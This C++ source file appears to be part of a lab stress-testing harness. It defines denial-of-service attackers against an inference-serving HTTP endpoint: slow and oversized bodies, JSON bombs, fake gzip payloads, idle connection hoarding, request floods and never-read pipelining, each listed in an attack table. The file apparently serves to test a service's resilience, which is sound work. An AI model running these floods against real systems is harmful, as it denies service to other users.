// SPDX-License-Identifier: Apache-2.0
// A consumer with a token, who would rather nobody else were served.
#include <algorithm>
#include <array>
#include <chrono>
#include <commensal/lab/hostile/attacker.hpp>
#include <commensal/lab/hostile/crowd.hpp>
#include <thread>

namespace commensal::lab::hostile {
namespace {

constexpr std::size_t kConnections = 300;
constexpr std::size_t kAtOnce = 8;

std::string json_infer(const Target& target, std::string_view body) {
  return infer_head(target.model, target.token,
                    fmt::format("Content-Length: {}\r\n", body.size())) +
         std::string(body);
}

/// Says one thing after the other on connections that it keeps, and does not wait for answers.
class Talker : public Attacker {
 public:
  Talker(const Target& target, core::Rng& rng)
      : target_(target), rng_(rng), crowd_(target.http_port, effects_) {}
  void act() override {
    while (crowd_.size() < connections()) {
      if (!crowd_.join()) break;
    }
    for (std::size_t i = 0; i < kAtOnce && crowd_.size() > 0; ++i) {
      const std::size_t member = next_++ % crowd_.size();
      const bool is_heard = !hears() || crowd_.hear(member);
      if (!crowd_.say(member, next()) || !is_heard) crowd_.leave(member);
    }
  }
  void finish() override { crowd_.listen(); }

 protected:
  virtual std::string next() = 0;
  virtual std::size_t connections() const { return 16; }
  virtual bool hears() const { return true; }
  const Target target_;
  core::Rng& rng_;
  Crowd crowd_;

 private:
  std::size_t next_ = 0;
};

/// Bodies that are announced and come by the byte.
class SlowBodies final : public Attacker {
 public:
  SlowBodies(const Target& target, core::Rng&)
      : target_(target), crowd_(target.http_port, effects_) {}
  void act() override {
    for (std::size_t i = 0; i < kAtOnce && crowd_.size() < kConnections && crowd_.join(); ++i) {
      crowd_.say(
          crowd_.size() - 1,
          infer_head(target_.model, target_.token,
                     "Inference-Header-Content-Length: 64\r\nContent-Length: 500000000\r\n"));
    }
    for (std::size_t i = 0; i < kAtOnce && crowd_.size() > 0; ++i) {
      crowd_.say(next_++ % crowd_.size(), " ");
    }
    if (next_ % 1024 == 0) crowd_.leave_closed();
  }
  void finish() override { crowd_.listen(); }

 private:
  const Target target_;
  Crowd crowd_;
  std::size_t next_ = 0;
};

/// A head each, then nothing but body.
class LargeBodies final : public Attacker {
 public:
  LargeBodies(const Target& target, core::Rng&)
      : target_(target), crowd_(target.http_port, effects_) {}
  void act() override {
    static const std::string kPiece(1 << 18, ' ');
    while (crowd_.size() < 16 && crowd_.join()) {
      crowd_.say(
          crowd_.size() - 1,
          infer_head(target_.model, target_.token,
                     "Inference-Header-Content-Length: 64\r\nContent-Length: 900000000\r\n"));
    }
    const std::size_t member = next_++ % std::max<std::size_t>(crowd_.size(), 1);
    if (member < crowd_.size() && !(crowd_.say(member, kPiece) && crowd_.hear(member))) {
      crowd_.leave(member);
    }
  }
  void finish() override { crowd_.hang_up(); }

 private:
  const Target target_;
  Crowd crowd_;
  std::size_t next_ = 0;
};

/// JSON that is deep, wide, or claims what is not there.
class JsonBombs final : public Talker {
 public:
  using Talker::Talker;

 protected:
  std::string next() override {
    const auto tensor = [](std::string_view shape, std::string_view data) {
      return fmt::format(
          R"({{"inputs":[{{"name":"image","datatype":"FP32","shape":{},"data":{}}}]}})", shape,
          data);
    };
    std::string zeros = "[0";
    for (int i = 0; i < 50'000; ++i) zeros += ",0";
    zeros += "]";
    std::string names = R"({"inputs":[)";
    for (int i = 0; i < 2'000; ++i) {
      names += fmt::format(R"({}{{"name":"{}","datatype":"FP32","shape":[0],"data":[]}})",
                           i == 0 ? "" : ",", i);
    }
    names += "]}";
    const std::array<std::string, 8> bodies = {
        std::string(100'000, '['),
        tensor("[1,1,8,8]", std::string(20'000, '[')),
        tensor("[1099511627776,1099511627776]", "[]"),
        tensor("[50001]", zeros),
        tensor("[-1]", "[1e999999]"),
        names,
        R"({"id":")" + std::string(200'000, '\\') + R"(","inputs":[]})",
        "{\"inputs\":\xff\xfe}",
    };
    return json_infer(target_, bodies[rng_.next_u64() % bodies.size()]);
  }
};

/// Good JSON, of just less than may be sent, on four connections of each of two accounts.
class LargeJson final : public Attacker {
 public:
  LargeJson(const Target& target, core::Rng&)
      : heads_{head_of(target, target.token), head_of(target, target.other_token)},
        crowd_(target.http_port, effects_) {}
  void act() override {
    while (crowd_.size() < 8 && crowd_.join()) talks_.push_back({++joined_ % 2 == 0, 0});
    if (talks_.empty()) return;
    const std::size_t member = next_++ % talks_.size();
    Talk& talk = talks_[member];
    const std::string_view head = heads_[talk.is_others ? 1 : 0];
    const bool in_head = talk.sent < head.size();
    const auto rest =
        in_head ? head.substr(talk.sent) : std::string_view(body_).substr(talk.sent - head.size());
    const auto taken = crowd_.offer(member, rest.substr(0, kPieceBytes));
    if (!taken || !crowd_.hear(member)) {
      crowd_.leave(member);
      talks_.erase(talks_.begin() + static_cast<std::ptrdiff_t>(member));
      return;
    }
    if (*taken == 0) std::this_thread::sleep_for(std::chrono::milliseconds(1));
    talk.sent = (talk.sent + *taken) % (head.size() + body_.size());
  }
  void finish() override { crowd_.hang_up(); }

 private:
  struct Talk {
    bool is_others = false;
    std::size_t sent = 0;
  };
  static constexpr std::size_t kPieceBytes = 1 << 18;

  static std::string make_body() {
    constexpr std::size_t kNumbers = (32 << 20) / 2 - 100;
    std::string body = fmt::format(
        R"({{"inputs":[{{"name":"image","datatype":"FP32","shape":[{}],"data":[1)", kNumbers);
    for (std::size_t i = 1; i < kNumbers; ++i) body += ",1";
    return body + "]}]}";
  }
  std::string head_of(const Target& target, const std::string& token) const {
    return infer_head(target.model, token, fmt::format("Content-Length: {}\r\n", body_.size()));
  }

  const std::string body_ = make_body();
  const std::array<std::string, 2> heads_;
  Crowd crowd_;
  std::vector<Talk> talks_;  // of the crowd's members
  std::size_t joined_ = 0;
  std::size_t next_ = 0;
};

/// As many connections as a gateway keeps, each of which has asked once.
class IdleKnown final : public Attacker {
 public:
  IdleKnown(const Target& target, core::Rng&)
      : request_(
            fmt::format("GET /v1/account HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {}\r\n\r\n",
                        target.token)),
        crowd_(target.http_port, effects_) {}
  void act() override {
    for (std::size_t i = 0; i < kAtOnce && crowd_.size() < 1'024 && crowd_.join(); ++i) {
      crowd_.say(crowd_.size() - 1, request_);
    }
    if (++acts_ % 16 == 0) crowd_.leave_closed();
  }
  void finish() override { crowd_.listen(); }

 private:
  const std::string request_;
  Crowd crowd_;
  std::size_t acts_ = 0;
};

class Compressed final : public Talker {
 public:
  using Talker::Talker;

 protected:
  std::string next() override {
    const std::string bomb = "\x1f\x8b\x08" + std::string(1 << 14, '\0');
    const bool is_coding = rng_.next_u64() % 2 == 0;
    return infer_head(
               target_.model, target_.token,
               fmt::format("{}: gzip\r\nContent-Length: {}\r\n",
                           is_coding ? "Content-Encoding" : "Transfer-Encoding", bomb.size())) +
           bomb;
  }
};

/// As many good requests as it can send.
class RequestFlood : public Talker {
 public:
  using Talker::Talker;

 protected:
  std::string next() override {
    std::string data = "[1";
    for (int i = 1; i < 64; ++i) data += ",1";
    return json_infer(
        target_,
        fmt::format(
            R"({{"inputs":[{{"name":"image","datatype":"FP32","shape":[1,1,8,8],"data":{}]}}]}})",
            data));
  }
  std::size_t connections() const override { return 64; }
};

/// The same, and gone before the answer.
class LeaveAtOnce final : public RequestFlood {
 public:
  using RequestFlood::RequestFlood;
  void act() override { std::ignore = ask(); }
  void finish() override { ask()->listen(); }

 private:
  std::unique_ptr<Crowd> ask() {
    auto crowd = std::make_unique<Crowd>(target_.http_port, effects_);
    for (std::size_t i = 0; i < kAtOnce && crowd->join(); ++i) crowd->say(i, next());
    return crowd;
  }
};

/// The same, and never reads: pipelined answers pile up.
class NeverReads final : public RequestFlood {
 public:
  using RequestFlood::RequestFlood;

 protected:
  std::size_t connections() const override { return kConnections; }
  bool hears() const override { return false; }
};

template <class Kind>
std::unique_ptr<Attacker> make(const Target& target, core::Rng& rng) {
  return std::make_unique<Kind>(target, rng);
}

constexpr AttackRow kRows[] = {
    {"slow-bodies", "300 bodies of 500 MB that come by the byte", make<SlowBodies>},
    {"large-bodies", "bodies of 900 MB, as fast as they are taken", make<LargeBodies>},
    {"json-bombs", "deep, wide, overflowing and lying JSON", make<JsonBombs>},
    {"large-json", "bodies of 32 MiB of numbers, from two accounts", make<LargeJson>},
    {"idle-known", "1,024 connections that have asked once and stay", make<IdleKnown>},
    {"compressed-bomb", "compressed bodies", make<Compressed>},
    {"request-flood", "good requests on 64 connections, as many as it can", make<RequestFlood>},
    {"relay-request-flood", "the same by way of a gateway that relays", make<RequestFlood>,
     Site::kRelay},
    {"leave-at-once", "good requests, gone before the answer", make<LeaveAtOnce>},
    {"never-reads", "good requests on 300 connections, answers left unread", make<NeverReads>},
};

}  // namespace

std::span<const AttackRow> account_attacks() { return kRows; }

}  // namespace commensal::lab::hostile
